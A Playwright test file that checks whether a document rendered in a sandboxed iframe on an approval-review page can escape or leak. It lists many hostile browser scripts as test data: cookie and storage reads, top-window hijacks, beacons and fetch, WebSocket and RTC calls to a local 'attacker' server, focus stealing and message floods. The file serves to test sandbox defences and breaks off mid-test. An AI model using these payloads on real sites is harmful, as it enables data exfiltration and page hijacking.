// What a caller's own document can do in its frame, and opened directly: nothing that anybody else would notice.

import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { chromium, type FrameLocator, type Locator, type Page } from '@playwright/test';
import config from '../playwright.config';
import { expect, test as base } from '../support/test';
import { form, type Approval } from '../support/approvals';
import { Attacker, Careless } from '../support/attacker';
import { ApprovalReview, hydrated } from '../support/review';

const launch = config.use?.launchOptions;
// With a camera and a microphone, so that it is not for want of one that nobody gets at it.
base.use({ launchOptions: { ...launch, args: [...(launch?.args ?? []), '--use-fake-device-for-media-stream'] } });

/** What a person may have allowed to the whole site. */
const TRUSTED = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'clipboard-write'];

interface Fixtures {
  /** Nothing may reach it while the test runs, nor afterwards. */
  attacker: Attacker;
  /** What the browser did that a page could notice. */
  noticed: string[];
}

interface WorkerFixtures {
  attackers: Attacker[];
  careless: Careless;
}

const test = base.extend<Fixtures, WorkerFixtures>({
  attackers: [
    async ({}, use) => {
      const attackers: Attacker[] = [];
      await use(attackers);
      // What came too late for its own test.
      const heard = attackers.flatMap((attacker) => attacker.heard);
      await Promise.all(attackers.map((attacker) => attacker.stop()));
      expect(heard).toEqual([]);
    },
    { scope: 'worker' },
  ],

  careless: [
    async ({}, use) => {
      const site = await Careless.start();
      await use(site);
      await site.stop();
    },
    { scope: 'worker' },
  ],

  attacker: async ({ attackers }, use) => {
    const attacker = await Attacker.start();
    attackers.push(attacker);
    await use(attacker);
    expect(attacker.heard).toEqual([]);
  },

  noticed: [
    async ({ complaints, context }, use) => {
      // The browser says on the console what it forbids.
      complaints.allow(/./);
      const noticed: string[] = [];
      const watch = (page: Page) => {
        page.on('dialog', (dialog) => {
          noticed.push(`a dialog: ${dialog.message()}`);
          void dialog.dismiss();
        });
        page.on('download', (download) => noticed.push(`a download: ${download.suggestedFilename()}`));
        page.on('popup', (popup) => noticed.push(`a window: ${popup.url()}`));
      };
      context.on('page', watch);
      await use(noticed);
      expect(noticed).toEqual([]);
    },
    { auto: true },
  ],
});

/** What a script tries: what it is called, and a body of a function that tells how it ended. */
type Try = [name: string, script: string];

/** A document with a button for each of these; pressed, it tries and writes down how that ended. */
function armed(tries: Try[], markup = ''): string {
  const attacks = tries.map(([name, script]) => `async ${JSON.stringify(name)}() {\n${script}\n}`);
  const buttons = tries.map(([name]) => `<button>${name}</button>`);
  return `<output style="display: block; height: 1.5em"></output>${buttons.join('')}${markup}
    <script>
      const attacks = { ${attacks.join(',\n')}\n};
      for (const button of document.querySelectorAll('button')) {
        button.onclick = async () => {
          const output = document.querySelector('output');
          output.textContent = 'trying';
          try {
            output.textContent = 'ended: ' + (await attacks[button.textContent]());
          } catch (error) {
            output.textContent = 'ended: ' + error.name;
          }
        };
      }
    </script>`;
}

/** Presses the button of a try, and sees how that ends. */
async function attempt(document: Page | FrameLocator, name: string, ends: string | RegExp): Promise<void> {
  await document.getByRole('button', { name, exact: true }).click();
  const ended = typeof ends === 'string' ? `ended: ${ends}` : new RegExp(`^ended: (${ends.source})$`);
  await expect.soft(document.locator('output'), name).toHaveText(ended);
}

/** A request whose context is shown by this template, above a field and the two buttons. */
function shown(displayTemplate: string): Approval {
  return {
    message: 'Approve the deploy',
    context: { target: 'prod' },
    displayTemplate,
    requestedSchema: form({ note: { type: 'string', title: 'Note', maxLength: 100 } }),
  };
}

/** Sees that the page is where it was, that nothing is decided, and that the person can decide. */
async function unharmed(review: ApprovalReview): Promise<void> {
  expect(review.page.url()).toBe(review.url);
  await review.decline();
  await expect(review.outcome).toContainText(/^\s*Rejected/);
}

/** What a script tries, each after a person has pressed a button in the frame, and how that ends. */
const forbidden: Record<string, [...Try, ends: string | RegExp][]> = {
  'the page around it': [
    ["the page's document", `return parent.document.title`, 'SecurityError'],
    ["the top window's document", `return top.document.cookie`, 'SecurityError'],
    ['the element of the frame', `return frameElement`, 'null'],
    ["the page's address", `return parent.location.href`, 'SecurityError'],
    ["the page's functions", `return parent.fetch('/api/standing')`, 'SecurityError'],
    ["the page's storage", `return parent.localStorage.length`, 'SecurityError'],
    ['a property of the page', `parent.eval = 1`, 'SecurityError'],
    ['document.domain', `document.domain = '127.0.0.1'`, 'SecurityError'],
    ['the referrer', `return '<' + document.referrer + '>'`, '<>'],
    ['its own name', `return '<' + window.name + '>'`, '<>'],
    ['its origin', `return origin`, 'null'],
  ],

  'what the browser keeps': [
    ['cookies', `return document.cookie`, 'SecurityError'],
    ['setting a cookie', `document.cookie = 'a=b'`, 'SecurityError'],
    ['the cookie store', `return cookieStore.getAll()`, 'SecurityError'],
    ['localStorage', `localStorage.setItem('a', 'b')`, 'SecurityError'],
    ['sessionStorage', `sessionStorage.setItem('a', 'b')`, 'SecurityError'],
    ['indexedDB', `indexedDB.open('a')`, 'SecurityError'],
    ['caches', `await caches.open('a')`, 'SecurityError'],
    ['files', `await navigator.storage.getDirectory()`, 'SecurityError'],
    ['locks', `await navigator.locks.request('a', () => 'held')`, 'SecurityError'],
    ['storage access', `await document.requestStorageAccess()`, 'NotAllowedError'],
  ],

  'other places for its scripts': [
    ['a service worker', `await navigator.serviceWorker.register('/icon.svg')`, 'SecurityError'],
    ['a shared worker', `return new SharedWorker('data:text/javascript,')`, 'SecurityError'],
    ['a worker from a blob', worker(`URL.createObjectURL(new Blob(['postMessage(1)']))`), 'error'],
    ['a worker from data', worker(`'data:text/javascript,postMessage(1)'`), 'error'],
    ['a module from data', `return (await import('data:text/javascript,export default 1')).default`, 'TypeError'],
    ['a frame from data', inner('src', `'data:text/html,' + SCRIPT`), 'nothing'],
    ['a frame from a blob', inner('src', `URL.createObjectURL(new Blob([SCRIPT], { type: 'text/html' }))`), 'nothing'],
    ['a frame from this server', inner('src', `'/icon.svg'`), 'nothing'],
    ['a frame with a source of its own', inner('srcdoc', 'SCRIPT'), 'null SecurityError SecurityError'],
    [
      'a frame with an origin',
      `const frame = document.createElement('iframe');
      frame.sandbox = 'allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals';
      document.body.append(frame);
      return frame.contentWindow.origin`,
      'SecurityError',
    ],
    ['a portal', `return document.createElement('portal') instanceof HTMLUnknownElement`, 'true'],
    ['a fenced frame', `return new FencedFrameConfig('https://example.com/')`, /ReferenceError|TypeError/],
  ],

  'windows and dialogs': [
    ['alert', `return alert('a')`, 'undefined'],
    ['confirm', `return confirm('a')`, 'false'],
    ['prompt', `return prompt('a')`, 'null'],
    ['print', `return print()`, 'undefined'],
    ['asking before it goes', `onbeforeunload = () => 'a'; return 'set'`, 'set'],
    ['a window', `return open('about:blank')`, 'null'],
    ['a window in place of the page', `return open('/review', '_top')`, /null|SecurityError/],
    ['fullscreen', `await document.body.requestFullscreen()`, 'TypeError'],
    ['the pointer', `await document.body.requestPointerLock()`, 'SecurityError'],
    ['picture in picture', `await documentPictureInPicture.requestWindow()`, 'NotAllowedError'],
    ['a file', `await showOpenFilePicker()`, 'SecurityError'],
  ],

  "what takes a person's leave": [
    ['writing to the clipboard', `await navigator.clipboard.writeText('a')`, 'NotAllowedError'],
    ['reading the clipboard', `await navigator.clipboard.readText()`, 'NotAllowedError'],
    ['a notification', `return new Promise((done) => (new Notification('a').onerror = () => done('error')))`, 'error'],
    [
      'the position',
      `return new Promise((done) => navigator.geolocation.getCurrentPosition(done, (error) => done(error.code)))`,
      '1',
    ],
    ['the camera', `await navigator.mediaDevices.getUserMedia({ video: true })`, 'SecurityError'],
    ['the microphone', `await navigator.mediaDevices.getUserMedia({ audio: true })`, 'SecurityError'],
    ['the screen', `await navigator.mediaDevices.getDisplayMedia()`, 'NotAllowedError'],
    ['sharing', `await navigator.share({ text: 'a' })`, /NotAllowedError|TypeError/],
    ['credentials', `await navigator.credentials.get({ password: true })`, 'NotAllowedError'],
    ['a payment', `new PaymentRequest([{ supportedMethods: 'https://example.com' }], { })`, 'SecurityError'],
    ['a USB device', `await navigator.usb.requestDevice({ filters: [] })`, 'SecurityError'],
    ['a serial port', `await navigator.serial.requestPort()`, 'SecurityError'],
    ['MIDI', `await navigator.requestMIDIAccess()`, 'SecurityError'],
    ['a lock on the screen', `await navigator.wakeLock.request()`, 'NotAllowedError'],
  ],

  'steering the page': [
    ['the address of the top window', `top.location = 'about:blank'`, 'SecurityError'],
    ['the address of the page', `parent.location.replace('about:blank')`, 'SecurityError'],
    ['the fragment of the page', `parent.location.hash = 'a'`, 'SecurityError'],
    ['a script for the page', `parent.location = 'javascript:document.title=1'`, 'SecurityError'],
    ['a link to the top window', click(`{ href: '/review', target: '_top' }`), 'clicked'],
    ['a link to the page', click(`{ href: '/review', target: '_parent' }`), 'clicked'],
    ['a link to a new window', click(`{ href: '/review', target: '_blank' }`), 'clicked'],
    ['a download of data', click(`{ href: 'data:text/plain,a', download: 'a.txt' }`), 'clicked'],
    ['a download of a blob', click(`{ href: URL.createObjectURL(new Blob(['a'])), download: 'a.txt' }`), 'clicked'],
    ['a form to the top window', submit(`{ action: '/review', target: '_top' }`), 'submitted'],
    ['a form to a new window', submit(`{ action: '/review', target: '_blank' }`), 'submitted'],
    ['a form to a script', submit(`{ action: 'javascript:document.body.remove()' }`), 'submitted'],
    ['a decision by a form', submit(`{ action: '/api/submit', method: 'post' }`), 'submitted'],
    ['going back', `history.back(); history.go(-2); return 'went'`, 'went'],
    ['stopping the page', `parent.stop()`, 'SecurityError'],
    ['closing the page', `top.close(); return 'called'`, 'called'],
  ],
};

/** A script that starts a worker and tells what becomes of it. */
function worker(address: string): string {
  return `return new Promise((done) => {
    const worker = new Worker(${address});
    worker.onmessage = () => done('ran');
    worker.onerror = () => done('error');
  })`;
}

/** A script that puts a frame into the frame, and tells what a script in there tells. */
function inner(attribute: string, value: string): string {
  return `const SCRIPT = '<script>const of = (f) => { try { return f() } catch (e) { return e.name } };' +
      'parent.postMessage([origin, of(() => top.document), of(() => document.cookie)].join(" "), "*")<' + '/script>';
    const told = new Promise((done) => {
      addEventListener('message', ({ source, data }) => source !== parent && done(data));
    });
    const frame = document.createElement('iframe');
    const loaded = new Promise((done) => (frame.onload = done));
    frame.${attribute} = ${value};
    document.body.append(frame);
    await loaded;
    return Promise.race([told, new Promise((done) => setTimeout(done, 300, 'nothing'))])`;
}

/** A script that clicks on a link, in the document and outside of it. */
function click(link: string): string {
  return `const link = Object.assign(document.createElement('a'), ${link});
    link.click();
    addEventListener('click', (event) => event.stopImmediatePropagation(), { capture: true, once: true });
    document.body.append(link);
    link.click();
    return 'clicked'`;
}

/** A script that submits a form, with and without a button. */
function submit(form: string): string {
  return `const form = Object.assign(document.createElement('form'), ${form});
    document.body.append(form);
    form.submit();
    form.append(document.createElement('button'));
    form.lastChild.click();
    return 'submitted'`;
}

for (const [group, cases] of Object.entries(forbidden)) {
  test(`a frame gets nowhere with ${group}`, async ({ agent, context, page, noticed, server }) => {
    // Even where the person trusts this site with everything.
    await context.grantPermissions(TRUSTED, { origin: server.url });
    const { elicitationId, reviewUrl } = await agent.ask(shown(armed(cases.map(([name, script]) => [name, script]))));
    await page.goto(server.url); // to have something to go back to
    const review = await ApprovalReview.open(page, reviewUrl);
    const sent: string[] = [];
    page.on('request', (request) => sent.push(request.url()));
    for (const [name, , ends] of cases) {
      await attempt(review.document, name, ends);
      expect.soft(noticed, name).toEqual([]);
      expect.soft(page.url(), name).toBe(reviewUrl);
    }
    expect(sent.filter((url) => new URL(url).protocol.startsWith('http'))).toEqual([]);
    expect(await agent.status(elicitationId)).toBe('pending');
    await unharmed(review);
  });
}

/** Markup that asks an attacker for something. */
const beacons: Record<string, (url: string) => string> = {
  img: (url) => `<img src="${url}">`,
  srcset: (url) => `<img srcset="${url} 1x">`,
  picture: (url) => `<picture><source srcset="${url}"><img alt=""></picture>`,
  'a picture for a button': (url) => `<input type="image" src="${url}">`,
  'a background': (url) => `<p style="background: url(${url})">a</p>`,
  'an image set': (url) => `<p style="background: image-set(url(${url}) 1x)">a</p>`,
  content: (url) => `<p style="content: url(${url})">a</p>`,
  'a mask': (url) => `<p style="mask: url(${url}#a)">a</p>`,
  'a bullet': (url) => `<ul><li style="list-style-image: url(${url})">a</ul>`,
  import: (url) => `<style>@import url(${url});</style>`,
  'a font': (url) => `<style>@font-face { font-family: a; src: url(${url}) }</style><p style="font-family: a">a</p>`,
  stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
  modulepreload: (url) => `<link rel="modulepreload" href="${url}">`,
  script: (url) => `<script src="${url}"></script>`,
  'a module': (url) => `<script type="module" src="${url}"></script>`,
  'an imported module': (url) => `<script type="module">import '${url}';</script>`,
  video: (url) => `<video src="${url}"></video>`,
  poster: (url) => `<video poster="${url}"></video>`,
  audio: (url) => `<audio src="${url}"></audio>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  iframe: (url) => `<iframe src="${url}"></iframe>`,
  'an iframe in an iframe': (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  'a picture in a drawing': (url) => `<svg><image href="${url}"/></svg>`,
  'a filter in a drawing': (url) =>
    `<svg><filter id="a"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#a)"/></svg>`,
  'speculation rules': (url) =>
    `<script type="speculationrules">
      { "prefetch": [{ "urls": ["${url}"], "eagerness": "immediate", "referrer_policy": "no-referrer" }] }
    </script>`,
};

/** Scripts that ask an attacker for something, and how that ends where they get nowhere. */
const errands: Record<string, [script: (attacker: Attacker, url: string) => string, ends: string | RegExp]> = {
  fetch: [(_, url) => `await fetch('${url}', { mode: 'no-cors' })`, 'TypeError'],
  'a request that outlives its document': [
    (_, url) => `await fetch('${url}', { mode: 'no-cors', method: 'POST', keepalive: true })`,
    'TypeError',
  ],
  'a request for later': [(_, url) => `fetchLater('${url}', { activateAfter: 0 })`, /NotAllowedError|undefined/],
  XMLHttpRequest: [
    (_, url) => `return new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open('GET', '${url}');
      request.onloadend = () => done(request.status);
      request.send();
    })`,
    '0',
  ],
  sendBeacon: [(_, url) => `return navigator.sendBeacon('${url}', 'a')`, /true|false/],
  WebSocket: [
    ({ host }, url) => `return new Promise((done) => {
      const socket = new WebSocket('ws://${host}${new URL(url).pathname}');
      socket.onerror = () => done('error');
    })`,
    'error',
  ],
  EventSource: [
    (_, url) => `return new Promise((done) => {
      const source = new EventSource('${url}');
      source.onerror = () => (source.close(), done('error'));
    })`,
    'error',
  ],
  WebTransport: [({ host }) => `await new WebTransport('https://${host}/').ready`, 'WebTransportError'],
  'import()': [(_, url) => `await import('${url}')`, 'TypeError'],
  'a picture': [
    (_, url) => `return new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = ({ type }) => done(type);
      image.src = '${url}';
    })`,
    'error',
  ],
  'a picture in a worker': [
    (_, url) => `const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' })"])));
      return new Promise((done) => {
        worker.onerror = () => done('error');
        setTimeout(done, 300, 'nothing');
      })`,
    'error',
  ],
  'a peer connection': [
    ({ host }) => `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });
      peer.createDataChannel('a');
      await peer.setLocalDescription(await peer.createOffer());
      return new Promise((done) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done('complete');
      })`,
    'complete',
  ],
  'a ping': [
    (_, url) => `const link = Object.assign(document.createElement('a'), { href: '#a', ping: '${url}' });
      document.body.append(link);
      link.click();
      return 'clicked'`,
    'clicked',
  ],
  'a form': [
    (_, url) => `const form = Object.assign(document.createElement('form'), { action: '${url}', target: 'inside' });
      document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'inside' }));
      form.submit();
      return 'submitted'`,
    'submitted',
  ],
  'a link to a new window': [
    (_, url) => `const link = Object.assign(document.createElement('a'), { href: '${url}', target: '_blank' });
      link.click();
      return 'clicked'`,
    'clicked',
  ],
  'a window': [(_, url) => `return String(open('${url}'))`, 'null'],
};

function beacon(attacker: Attacker): string {
  const address = (at: number) => `${attacker.url}/beacon${at}.`;
  const each = Object.values(beacons).map((markup, at) => `<div class="beacon">${markup(address(at))}</div>`);
  return each.join('\n');
}

function errand(attacker: Attacker): Try[] {
  const address = (at: number) => `${attacker.url}/errand${at}.`;
  return Object.entries(errands).map(([name, [script]], at) => [name, script(attacker, address(at))]);
}

test('on a careless site every one of these reaches somebody', async ({ browser, careless }) => {
  const attacker = await Attacker.start();
  const page = await browser.newPage();
  await page.goto(careless.serve(armed(errand(attacker), beacon(attacker))));
  const heard = (word: string) => attacker.heard.some((line) => line.includes(word));
  for (const [at, name] of Object.keys(beacons).entries()) {
    await expect.soft.poll(() => heard(`/beacon${at}.`), `${name}, ${at}`).toBe(true);
  }
  for (const [at, name] of Object.keys(errands).entries()) {
    await page.getByRole('button', { name, exact: true }).click();
    const word = ['WebTransport', 'a peer connection'].includes(name) ? 'a datagram' : `/errand${at}.`;
    await expect.soft.poll(() => heard(word), name).toBe(true);
    attacker.heard.length = 0;
  }
  await page.close();
  await attacker.stop();
});

test('from a frame none of them reaches anybody', async ({ agent, attacker, page, noticed }) => {
  const { reviewUrl } = await agent.ask(shown(armed(errand(attacker), beacon(attacker))));
  const review = await ApprovalReview.open(page, reviewUrl);
  await expect(review.document.locator('.beacon')).toHaveCount(Object.keys(beacons).length);
  for (const [name, [, ends]] of Object.entries(errands)) {
    await attempt(review.document, name, ends);
    expect.soft(attacker.heard, name).toEqual([]);
  }
  expect(noticed).toEqual([]);
  await unharmed(review);
});

/** Whom a browser looks up, or connects to, on a page with hints for it; hints are for a profile that is kept. */
async function lookedUp(open: (page: Page) => Promise<void>): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'sayso-profile-'));
  const log = join(folder, 'net.json');
  try {
    const args = [...(launch?.args ?? []), `--log-net-log=${log}`];
    const context = await chromium.launchPersistentContext(join(folder, 'profile'), { ...launch, args });
    await open(context.pages()[0]!);
    await context.close();
    return await readFile(log, 'utf8');
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

test('hints open no connection and look nobody up', async ({ agent, attacker, careless, noticed }) => {
  const somebody = await Attacker.start();
  const hints = (name: string, { url }: Attacker) =>
    armed(
      [['Hint', `document.querySelectorAll('link').forEach((link) => document.head.append(link.cloneNode()));`]],
      `<a href="http://${name}-link.example.invalid/">a</a>
      <link rel="dns-prefetch" href="http://${name}-dns.example.invalid/">
      <link rel="preconnect" href="http://${name}-host.example.invalid/">
      <link rel="preconnect" href="${url}">
      <meta http-equiv="x-dns-prefetch-control" content="on">`,
    );
  const log = await lookedUp(async (page) => {
    const { reviewUrl } = await agent.ask(shown(hints('framed', attacker)));
    const review = await ApprovalReview.open(page, reviewUrl);
    await review.document.getByRole('button', { name: 'Hint' }).click();
    await expect(review.document.locator('output')).toHaveText('ended: undefined');
    await page.goto(page.frames()[1]!.url());
    await page.getByRole('button', { name: 'Hint' }).click();
    await expect(page.locator('output')).toHaveText('ended: undefined');
    // The same elsewhere, afterwards: once this has arrived, the others would have.
    await page.goto(careless.serve(hints('careless', somebody)));
    await expect.poll(() => somebody.heard).toContain('a connection');
  });
  await somebody.stop();
  for (const kind of ['dns', 'host']) expect(log, kind).toContain(`careless-${kind}.example.invalid`);
  expect(log.match(/framed-\w+\.example\.invalid/g) ?? []).toEqual([]);
  expect(attacker.heard).toEqual([]);
  expect(noticed).toEqual([]);
});

/** Ways out of a document, and where the frame is afterwards. */
const exits: Record<string, [script: (to: Attacker, other: URL) => string, ends: 'blocked' | 'blank' | 'there']> = {
  'another host': [({ url }) => `location = '${url}'`, 'blocked'],
  'another host in place of itself': [({ url }) => `location.replace('${url}')`, 'blocked'],
  'a link outside of the document': [
    ({ url }) => `(window.link = Object.assign(document.createElement('a'), { href: '${url}' })).click()`,
    'blocked',
  ],
  'a refresh': [
    ({ url }) => `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${url}">')`,
    'blocked',
  ],
  'a link with a base': [
    ({ url }) => `document.head.insertAdjacentHTML('beforeend', '<base href="${url}">');
      document.body.insertAdjacentHTML('beforeend', '<img src="a.png">');
      location = 'a'`,
    'blocked',
  ],
  'the page of another request': [(_, other) => `location = '${other.pathname}${other.search}'`, 'blocked'],
  'the frame of another request': [(_, other) => `location = '/frame/display${other.search}'`, 'blocked'],
  'itself again': [() => `location.reload()`, 'blocked'],
  data: [() => `location = 'data:text/html,<script>top.location="about:blank"</' + 'script>'`, 'blocked'],
  'a blob': [() => `location = URL.createObjectURL(new Blob(['a'], { type: 'text/html' }))`, 'blocked'],
  nowhere: [() => `location = 'about:blank'`, 'blank'],
  'a document of its own': [
    () => `document.open();
      document.write('<output>ended: ');
      document.write('<script>try { top.document } catch { document.write("there") }</' + 'script></output>');
      document.close()`,
    'there',
  ],
  'a fragment': [() => `location = '#a'; return 'there'`, 'there'],
};

for (const [name, [script, ends]] of Object.entries(exits)) {
  test(`a frame that goes to ${name} takes nobody along`, async ({ agent, attacker, page, noticed }) => {
    const other = new URL((await agent.ask(shown('<p>other</p>'))).reviewUrl);
    const { reviewUrl } = await agent.ask(shown(armed([['Go', script(attacker, other)]])));
    const review = await ApprovalReview.open(page, reviewUrl);
    const frame = page.frames()[1]!;
    await review.document.getByRole('button', { name: 'Go' }).click();
    if (ends === 'there') {
      await expect(review.document.locator('output')).toHaveText('ended: there');
      expect(new URL(frame.url()).pathname).toBe('/frame/display');
    } else {
      const address = { blocked: 'chrome-error://chromewebdata/', blank: 'about:blank' }[ends];
      await expect.poll(() => frame.url()).toBe(address);
    }
    expect(noticed).toEqual([]);
    await unharmed(review);
  });
}

// A frame may add to the history of its tab: no policy forbids that. Where a person goes back, the browser passes over
// what came without a click; that is a matter of its own buttons, which are out of reach here.
test.skip('a frame that fills the history is passed over on the way back', () => {});

// After a click in the frame, `document.execCommand('copy')` there writes to the clipboard: no policy forbids that
// either.
test.skip('a frame puts nothing into the clipboard', () => {});

/** Messages that a frame sends to the page as its height, and the height that this makes. */
const heights: [message: string, height: number | 'as it was'][] = [
  ['500', 500],
  ['500.5', 500.5],
  ['1', 24],
  ['0', 24],
  ['-1', 24],
  ['-1e308', 24],
  ['12001', 12_000],
  ['1e9', 12_000],
  ['NaN', 'as it was'],
  ['Infinity', 'as it was'],
  ['-Infinity', 'as it was'],
  [`'500'`, 'as it was'],
  ['null', 'as it was'],
  ['undefined', 'as it was'],
  ['true', 'as it was'],
  ['500n', 'as it was'],
  ['[500]', 'as it was'],
  ['({ height: 500 })', 'as it was'],
  ['new Number(500)', 'as it was'],
  ['({ valueOf: 500, toString: "500" })', 'as it was'],
  ['new Date(500)', 'as it was'],
];

test('a frame is as tall as it says, within reason', async ({ approval }) => {
  const tries = heights.map(([message]): Try => [message, `parent.postMessage(${message}, '*'); return 'said'`]);
  const review = await approval(shown(armed(tries)));
  const heard = await listen(review.page);
  for (const [message, expected] of heights) {
    await setHeight(review.page, 333);
    const before = (await heard()).length;
    await review.document.getByRole('button', { name: message, exact: true }).click();
    await expect.poll(async () => (await heard()).length).toBe(before + 1);
    await drawn(review.page);
    expect.soft(await height(review.page), message).toBe(expected === 'as it was' ? 333 : expected);
  }
});

test('a frame that tells two heights in turn settles, and shrinks again', async ({ approval, noticed }) => {
  const games = `for (let turn = 0; turn < 20_000; turn++) parent.postMessage(turn % 2 ? 12_000 : 24, '*');
    document.querySelector('p').style.height = '3000px';
    return 'played'`;
  const honest = `document.querySelector('p').style.height = '80px'; return 'told'`;
  const review = await approval(shown(armed([['Play', games], ['Tell', honest]], '<p>a</p>')));
  await expect.poll(() => height(review.page)).toBeGreaterThan(24);
  const first = await height(review.page);
  await review.document.getByRole('button', { name: 'Play' }).click();
  await expect(review.document.locator('output')).toHaveText('ended: played');
  await expect.poll(() => height(review.page)).toBeGreaterThan(first + 2_900);
  expect(await height(review.page)).toBeLessThan(first + 3_000);
  await review.document.getByRole('button', { name: 'Tell' }).click();
  await expect.poll(() => height(review.page)).toBeLessThan(first + 80);
  expect(noticed).toEqual([]);
  await unharmed(review);
});

test('nobody but the frame is heard', async ({ approval, noticed }) => {
  const nested = `const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.srcdoc = '<script>top.postMessage(999, "*"); parent.postMessage("sent", "*")</' + 'script>';
    document.body.append(frame);
    return new Promise((done) => addEventListener('message', ({ data }) => data === 'sent' && done(data)))`;
  const { page, document } = await approval(shown(armed([['Go', nested]])));
  const heard = await listen(page);
  await setHeight(page, 333);

  const others: [string, () => Promise<unknown>][] = [
    ['the page itself', () => page.evaluate(() => window.postMessage(999, '*'))],
    [
      'another frame',
      async () => {
        await page.evaluate(() => window.document.body.append(window.document.createElement('iframe')));
        await page.frames().at(-1)!.evaluate(() => parent.postMessage(999, '*'));
      },
    ],
    [
      'a window',
      async () => {
        const popup = page.waitForEvent('popup');
        await page.evaluate(() => void window.open('about:blank'));
        await (await popup).evaluate(() => window.opener.postMessage(999, '*'));
      },
    ],
    ['a frame in the frame', () => document.getByRole('button', { name: 'Go' }).click()],
  ];
  for (const [at, [name, speak]] of others.entries()) {
    await speak();
    await expect.soft.poll(heard, name).toEqual([333, ...Array(at + 1).fill(999)]);
    await drawn(page);
    expect.soft(await height(page), name).toBe(333);
  }
  await expect(document.locator('output')).toHaveText('ended: sent');
  expect(noticed.splice(0)).toEqual(['a window: about:blank']); // ours
});

test('a flood of messages leaves the page alive', async ({ approval }) => {
  test.setTimeout(60_000);
  const flood = `for (let turn = 1; turn < 200_000; turn++) parent.postMessage(turn, '*');
    parent.postMessage(444, '*');`;
  const review = await approval(shown(armed([['Go', `setTimeout(() => { ${flood} }, 100); return 'begins'`]])));
  await review.document.getByRole('button', { name: 'Go' }).click();
  await expect(review.document.locator('output')).toHaveText('ended: begins');
  await review.button('Decline').click({ timeout: 15_000 });
  await expect(review.outcome).toContainText(/^\s*Rejected/, { timeout: 15_000 });
  const frame = review.page.locator('iframe');
  await expect(frame).toHaveAttribute('style', /height: 444px/, { timeout: 25_000 });
});

// Chromium runs a sandboxed frame in a process of its own. Where a browser does not, the page stands still with it.
test('a frame that never ends leaves the page alive', async ({ approval }) => {
  const loop = `setTimeout(() => parent.postMessage(777, '*'), 100);
    setTimeout(() => { while (true); }, 200);
    return 'begins'`;
  const review = await approval(shown(armed([['Go', loop]])));
  await review.document.getByRole('button', { name: 'Go' }).click();
  await expect.poll(() => height(review.page)).toBe(777);
  const frame = review.page.frames()[1]!;
  const answers = () => Promise.race([frame.evaluate(() => true).catch(() => true), sleep(300, false)]);
  await expect.poll(answers).toBe(false);
  await review.page.getByRole('textbox', { name: 'Note' }).fill('still here');
  await review.submit();
  await expect(review.outcome).toContainText('still here');
  expect(await answers()).toBe(false);
});

test('a frame that never ends to load leaves the page alive', async ({ agent, page }) => {
  const { elicitationId, reviewUrl } = await agent.ask(shown('<p>a</p><script>while (true);</script>'));
  await page.goto(reviewUrl, { waitUntil: 'commit' });
  await hydrated(page);
  const review = new ApprovalReview(page, reviewUrl);
  await review.decline();
  await expect(review.outcome).toContainText(/^\s*Rejected/);
  expect(await page.evaluate(() => document.readyState), 'the frame is loading').toBe('interactive');
  expect(await agent.status(elicitationId)).toBe('rejected');
});

/** Takes the focus whenever it can. */
const grab = `const input = document.querySelector('input');
  let turns = 0;
  const grab = () => {
    window.focus();
    input.focus();
    input.select();
    input.blur();
    document.querySelector('a').focus();
    input.focus();
    document.body.dataset.turns = ++turns;
  };
  setInterval(grab, 1);
  addEventListener('blur', grab);
  grab();
  return 'grabs'`;

for (const [when, script] of [
  ['from the beginning', `<script>(() => { ${grab} })()</script>`],
  ['after a click in it', ''],
] as const) {
  test(`a frame that takes the keyboard ${when} loses its scripts`, async ({ approval, noticed }) => {
    const own = `<input autofocus aria-label="Theirs"><a href="#a">a</a>${script}`;
    const review = await approval(shown(armed([['Go', grab]], own)));
    if (!script) await review.document.getByRole('button', { name: 'Go' }).click();
    await expect(review.document.locator('body')).toHaveAttribute('data-turns', /\d/);

    const text = 'The quick brown fox jumps over the lazy dog';
    const note = review.page.getByRole('textbox', { name: 'Note' });
    await note.click();
    await expect(review.page.getByRole('note')).toContainText('took the keyboard away');
    await expect(note).toBeFocused();
    await review.page.keyboard.type(text, { delay: 15 });
    await expect(note).toHaveValue(text);

    await expect(review.page.locator('iframe')).toHaveAttribute('sandbox', '');
    await expect(review.document.getByLabel('Theirs')).toHaveValue('');
    await expect(review.document.locator('body')).not.toHaveAttribute('data-turns');
    expect(noticed).toEqual([]);
    await review.submit();
    await expect(review.outcome).toContainText(text);
  });
}

test('a person may go into a frame and back', async ({ approval, page }) => {
  const own = `<input aria-label="Theirs"><a href="#a">a</a>`;
  const focus = `document.querySelector('input').focus(); return 'focused'`;
  const review = await approval(shown(armed([['Go', focus]], own)));
  const note = page.getByRole('textbox', { name: 'Note' });
  const theirs = review.document.getByLabel('Theirs');
  /** Uses the page, and clicks in the frame as late as a hand can be there. */
  const cross = async (target: Locator) => {
    await note.click();
    const since = await page.evaluate(() => performance.now());
    await page.waitForFunction((since) => performance.now() - since > 600, since);
    await target.click();
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('IFRAME');
  };
  await cross(theirs);
  await page.keyboard.type('b');
  await note.click();
  await page.keyboard.type('a');
  await page.keyboard.press('Shift+Tab');
  await expect(review.document.getByRole('link')).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('End');
  await page.keyboard.type('c');
  await cross(review.document.getByRole('button', { name: 'Go' }));
  await page.keyboard.type('d');
